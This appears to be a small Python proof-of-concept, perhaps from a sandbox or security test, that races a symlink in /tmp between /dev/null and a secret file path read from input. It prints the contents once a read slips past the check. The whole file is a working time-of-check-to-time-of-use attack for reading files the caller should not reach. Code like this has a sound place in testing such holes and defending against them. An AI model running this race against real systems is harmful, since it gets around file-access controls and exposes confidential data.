"""Swap a link while it is opened."""

import json
import os

told = json.loads(input())
for _ in range(200):
    for target in ("/dev/null", told["secret"]):
        try:
            os.symlink(target, "/tmp/new")
            os.rename("/tmp/new", "/tmp/link")
            if text := open("/tmp/link").read():
                print("escaped", text)
        except OSError:
            pass
